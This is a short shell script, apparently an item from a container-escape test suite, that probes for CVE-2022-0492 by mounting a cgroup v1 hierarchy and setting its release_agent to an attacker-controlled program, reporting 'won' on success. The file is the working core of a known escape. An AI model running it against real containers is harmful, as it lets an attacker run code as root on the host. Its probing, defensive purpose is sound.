# SPDX-License-Identifier: Apache-2.0
# A program of the attacker's that the kernel runs when a cgroup empties.
#
# Cgroups of version 1 can be mounted anew, with a file for this at their root; a container with enough rights, or a user
# namespace, was all it took (CVE-2022-0492).
#
# ---
# tries: [B6]
# source: CVE-2022-0492
# wins: said
# may_lack: a hierarchy of cgroups of version 1
mkdir "$O/group"
mount -t cgroup -o none,name=attack none "$O/group" || { echo 'lacking: no cgroups of version 1'; exit 77; }
echo "$O/agent" > "$O/group/release_agent" && echo won
umount "$O/group"
